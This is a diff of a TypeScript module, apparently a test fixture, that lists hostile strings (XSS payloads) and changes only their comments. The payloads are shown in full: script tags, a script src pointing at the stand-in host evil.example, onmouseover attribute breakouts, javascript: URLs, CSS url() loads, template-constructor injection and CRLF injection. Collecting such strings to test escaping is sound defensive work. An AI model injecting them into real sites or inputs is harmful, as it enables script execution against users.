@@ -1,8 +1,8 @@
-/** What the scripts of hostile texts do when they run, and the host that their addresses lead to: both are told by `evil`. */
+/** Script of hostile texts, and host of their URLs: both contain `evil`. */
 const RUN = "alert('evil')";
 const HOST = 'evil.example';
 
-/** Elements that run or load something where a text is taken for markup. */
+/** Elements that execute or load something when a text is inserted as HTML. */
 const ELEMENTS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<ScRiPt src=//${HOST}/x.js></sCrIpT>`,
@@ -47,7 +47,7 @@ const ELEMENTS: readonly string[] = [
   `＜script＞${RUN}＜/script＞`,
 ];
 
-/** Ends of the attribute that a text stands in. */
+/** Texts that close the surrounding attribute. */
 const ATTRIBUTES: readonly string[] = [
   `" onmouseover="${RUN}`,
   `' onmouseover='alert("evil")`,
@@ -59,7 +59,7 @@ const ATTRIBUTES: readonly string[] = [
   `evil\r\nonmouseover=${RUN}`,
 ];
 
-/** Addresses that are code, or lead elsewhere than they seem to. */
+/** URLs that execute code, or lead elsewhere than they seem to. */
 const ADDRESSES: readonly string[] = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -88,7 +88,7 @@ const ADDRESSES: readonly string[] = [
   `file://${HOST}/x`,
 ];
 
-/** Values that would style more than they are asked for, or load something. */
+/** Values that would style more than intended, or load something. */
 const STYLES: readonly string[] = [
   `red;background:url(http://${HOST}/)`,
   `red;}body{background:url(http://${HOST}/)}`,
@@ -110,7 +110,7 @@ const STYLES: readonly string[] = [
   `color: red; background: url(http://${HOST}/x)`,
 ];
 
-/** Texts that templates, mail headers and readers take for something else. */
+/** Texts that templates, mail headers and parsers misinterpret. */
 const OTHERS: readonly string[] = [
   `{{constructor.constructor("${RUN}")()}}`,
   `{{email|<script>${RUN}</script>}}`,
@@ -120,7 +120,7 @@ const OTHERS: readonly string[] = [
   `#${RUN}`,
 ];
 
-/** Texts that would run a script, load from elsewhere, or style what is around them, where they were printed as they are. */
+/** Texts that would execute a script, load external content, or style their surroundings if they were printed unescaped. */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...ELEMENTS,
   ...ATTRIBUTES,
